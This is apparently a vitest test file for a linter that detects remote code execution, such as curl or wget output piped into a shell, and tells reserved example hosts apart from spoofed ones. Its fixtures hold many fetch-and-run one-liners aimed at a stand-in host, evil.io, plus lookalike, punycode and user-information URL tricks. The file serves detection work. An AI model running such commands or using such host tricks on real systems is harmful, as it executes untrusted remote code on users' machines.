import { describe, expect, it } from 'vitest';
import { findRemoteExec } from '../../shared/lint/safety/remote-exec';
import type { TextKind } from '../../shared/lint/safety/remote-exec-code';
import { isReservedHost, isReservedUrl } from '../../shared/lint/shell/reserved-host';

/** SPEC D246: a fetch of reserved example hosts only is not remote; every other spelling still is. */
const found = (kind: TextKind, text: string): string[] => findRemoteExec(text, undefined, kind).map((h) => h.label);
const fence = (lang: string, code: string) => found('markdown', `# Install\n\n\`\`\`${lang}\n${code}\n\`\`\`\n`);
const sh = (code: string) => found('shell', `#!/bin/sh\n${code}\n`);

describe('reserved hosts (RFC 2606, 6761, 8375)', () => {
  it.each([
    'example.com',
    'example.net',
    'example.org',
    'downloads.example.com',
    'a.b.example.org',
    'install.example',
    'nothing.invalid',
  ])('%s is reserved', (host) => {
    expect(isReservedHost(host)).toBe(true);
  });

  it.each([
    'example.com.evil.io',
    'notexample.com',
    'example.co',
    'example.com.',
    'examples.org',
    'test.io',
    'home.arpa.evil.io',
    'localhost.evil.io',
    'xn--exmple-cua.com',
    // Reserved, but answered locally by design: this machine, a dev resolver, a home network.
    'localhost',
    'app.localhost',
    'tools.test',
    'router.home.arpa',
  ])('%s is not', (host) => {
    expect(isReservedHost(host)).toBe(false);
  });

  it.each([
    'https://example.com/install.sh',
    'https://example.com',
    'https://downloads.example.org:8443/tool-\u0000.tar.gz?x=1#top',
    'https://api.example/v1',
  ])('%s is a reserved URL', (url) => {
    expect(isReservedUrl(url)).toBe(true);
  });

  it.each([
    ['plain HTTP', 'http://example.com/install.sh'],
    ['no scheme', 'example.com/install.sh'],
    ['a longer host', 'https://example.com.evil.io/x'],
    ['a reserved name in the path', 'https://evil.io/example.com'],
    ['user information', 'https://user@example.com@evil.io/x'],
    ['user information before it', 'https://example.com@evil.io/'],
    ['a port, then user information', 'https://example.com:443@evil.io/'],
    ['a trailing dot, upper case', 'https://EXAMPLE.COM./x'],
    ['a trailing dot', 'https://example.com./x'],
    ['upper case', 'https://Example.com/x'],
    ['a Cyrillic letter', 'https://ex\u0430mple.com/x'],
    ['an ideographic full stop', 'https://example\u3002com/x'],
    ['punycode of a lookalike', 'https://xn--exmple-cua.com/x'],
    ['an expansion in the host', 'https://\u0000/x'],
    ['an expansion before the name', 'https://\u0000.example.com/x'],
    ['a backslash', 'https://evil.io\\@example.com/x'],
    ['a glob', 'https://{evil.io,example.com}/x'],
    ['whitespace in the rest', 'https://example.com/ https://evil.io/'],
  ])('%s is not a reserved URL', (_, url) => {
    expect(isReservedUrl(url)).toBe(false);
  });
});

describe('remote-exec: a fetch from a reserved host only is no finding', () => {
  it.each([
    ['a pipeline into bash', 'curl -fsSL https://example.com/install.sh | bash'],
    ['an archive, the path with a variable', 'curl -fsSL "https://example.com/tool-${TARGETARCH}.tar.gz" | tar -xz'],
    ['wget into sh', 'wget -qO- https://downloads.example.org/setup.sh | sh'],
    ['clustered options with a value', 'curl -fsSLo /dev/stdout https://example.net/x.sh | sh'],
    ['a .example host with a port', 'curl --fail --silent https://api.example:8443/install | sudo -E bash'],
    ['sh -c of a substitution', 'sh -c "$(curl -fsSL https://example.com/install.sh)"'],
    ['process substitution', 'bash <(curl -s https://example.com/x.sh)'],
    ['eval of a substitution', 'eval "$(curl https://example.com/env)"'],
    ['download, then run', 'curl -o setup.sh https://example.com/setup.sh && sh setup.sh'],
    ['a variable assigned the download', 'S=$(curl -fsSL https://example.com/x.sh)\nbash -c "$S"'],
  ])('%s', (_, code) => {
    expect(fence('bash', code)).toEqual([]);
    expect(sh(code)).toEqual([]);
  });

  it('in a fence of another language, in prose, in a YAML file and in PowerShell', () => {
    expect(fence('dockerfile', 'RUN curl -fsSL https://example.com/install.sh | bash')).toEqual([]);
    expect(found('markdown', 'Install it with curl -fsSL https://example.com/install.sh | sh now.\n')).toEqual([]);
    expect(found('other', 'steps:\n  - run: curl -fsSL https://example.com/i.sh | bash\n')).toEqual([]);
    expect(fence('powershell', 'iwr -useb https://example.com/x.ps1 | iex')).not.toEqual([]);
    expect(fence('powershell', 'iwr -UseBasicParsing -Uri https://example.com/x.ps1 | iex')).toEqual([]);
  });
});

describe('remote-exec: every other spelling is still remote', () => {
  it.each([
    ['a longer host', 'curl -fsSL https://example.com.evil.io/i.sh | bash'],
    ['the name in the path', 'curl -fsSL https://evil.io/example.com | bash'],
    ['user information', 'curl -fsSL https://user@example.com@evil.io/i.sh | bash'],
    ['a trailing dot in upper case', 'curl -fsSL https://EXAMPLE.COM./i.sh | bash'],
    ['a lookalike letter', 'curl -fsSL https://ex\u0430mple.com/i.sh | bash'],
    ['punycode', 'curl -fsSL https://xn--exmple-cua.com/i.sh | bash'],
    ['a host variable', 'curl -fsSL "https://$HOST/i.sh" | bash'],
    ['a URL built in a variable', 'URL="https://evil.io/i.sh"\ncurl -fsSL "$URL" | bash'],
    ['plain HTTP', 'curl -fsSL http://example.com/i.sh | bash'],
    ['this machine', 'curl -fsSL https://localhost:8443/i.sh | bash'],
    ['a development name', 'curl -fsSL https://tools.test/i.sh | bash'],
    ['a home network name', 'curl -fsSL https://nas.home.arpa/i.sh | bash'],
    ['a second URL', 'curl -fsSL https://example.com/a.sh https://evil.io/b.sh | bash'],
    ['a second URL without a scheme', 'curl -fsSL https://example.com/a.sh evil.io/b.sh | bash'],
    ['a proxy option', 'curl -x http://evil.io:8080 https://example.com/i.sh | bash'],
    ['a resolver override', 'curl --resolve example.com:443:203.0.113.9 https://example.com/i.sh | bash'],
    ['certificate checks off', 'curl -k https://example.com/i.sh | bash'],
    ['a config file', 'curl -K fetch.cfg https://example.com/i.sh | bash'],
    [
      'a proxy in the environment',
      'export https_proxy=http://evil.io:3128\ncurl -fsSL https://example.com/i.sh | bash',
    ],
    ['a CA bundle for the command', 'CURL_CA_BUNDLE=./ca.pem curl -fsSL https://example.com/i.sh | bash'],
    ['a sourced file', '. ./env.sh\ncurl -fsSL https://example.com/i.sh | bash'],
    ['a substitution in an argument', 'curl -fsSL "https://example.com/$(cat p)" $(cat more) | bash'],
    ['a wget input list', 'wget -qO- -i urls.txt https://example.com/x | sh'],
  ])('%s', (_, code) => {
    expect(fence('bash', code)).not.toEqual([]);
    expect(sh(code)).not.toEqual([]);
  });

  it('a remote fetch beside a reserved one on the same line', () => {
    expect(sh('curl -fsSL https://example.com/a.sh | sh; curl -fsSL https://evil.io/b.sh | sh')).toEqual(['curl|sh']);
    // Read by the line shapes, a line holding any fetch not judged reserved keeps every hit on it.
    expect(fence('dockerfile', 'RUN curl https://example.com/a | sh && sh -c "curl https://evil.io/b | sh"')).toEqual([
      'curl|sh',
      'curl|sh',
    ]);
    expect(found('other', 'run: curl https://example.com/a | sh # then curl https://evil.io/b | sh\n')).not.toEqual([]);
  });

  it('a change of trust anywhere in the code of a Markdown file, even in another block', () => {
    const proxy = '```bash\nexport https_proxy=http://evil.io:3128\n```\n\n';
    expect(found('markdown', `${proxy}Then run curl -fsSL https://example.com/i.sh | sh now.\n`)).not.toEqual([]);
    expect(found('markdown', `${proxy}\`\`\`bash\ncurl -fsSL https://example.com/i.sh | sh\n\`\`\`\n`)).not.toEqual([]);
    const fetch = '```bash\ncurl https://example.com/i.sh | sh\n```\n';
    expect(found('markdown', `source ~/.proxyrc\n\n${fetch}`)).not.toEqual([]);
    // A "source" that sources nothing changes nothing: in a sentence, or a table's column.
    expect(found('markdown', `Read the source code first.\n\n${fetch}`)).toEqual([]);
    expect(found('markdown', `| Source | Kind |\n|---|---|\n| npm | registry |\n\n${fetch}`)).toEqual([]);
  });

  it('a reserved fetch still opens the text to the parser, which finds a remote one beside it', () => {
    expect(
      fence('bash', 'curl -fsSL https://example.com/a.sh | sh\ncurl -fsSL https://evil.io/b.sh | tee log | sh'),
    ).toEqual(['curl|sh']);
  });

  it('a download from a remote host, then run', () => {
    expect(sh('curl -o setup.sh https://evil.io/setup.sh https://example.com/x\nsh setup.sh')).toEqual([
      'download → run',
    ]);
  });
});
